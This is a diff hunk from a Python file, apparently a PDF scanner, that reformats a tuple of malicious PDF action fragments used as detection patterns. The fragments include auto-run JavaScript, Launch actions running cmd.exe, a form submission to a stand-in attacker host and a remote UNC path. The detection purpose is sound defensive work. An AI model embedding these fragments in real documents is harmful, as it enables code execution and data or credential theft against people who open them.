@@ -326,7 +326,8 @@ def _active() -> Iterator[Harm]:
 #: What a PDF does or brings along, in its catalogue; names may be written with numbers instead of letters.
 ACTIONS = (
     b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b"/OpenAction<</S/#4aavaScript/#4a#53(app.alert(1))>>", b"/OpenAction 4 0 R",
-    b"/AA<</WC<</S/JavaScript/JS(x)>>>>", b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>", b"/OpenAction<</S/Launch/F(cmd.exe)>>",
+    b"/AA<</WC<</S/JavaScript/JS(x)>>>>", b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>",
+    b"/OpenAction<</S/Launch/F(cmd.exe)>>",
     b"/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>", b"/OpenAction<</S/ImportData/F(x)>>", b"/OpenAction<</S/SubmitForm/F(http://evil.example)>>",
     b"/OpenAction<</S/GoToE/F(x)>>", b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x)>>", b"/AcroForm<</XFA[(a)4 0 R]>>",
     b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Launch/F(x)>>]>>", b"/OpenAction<</S/Rendition/JS(x)>>",
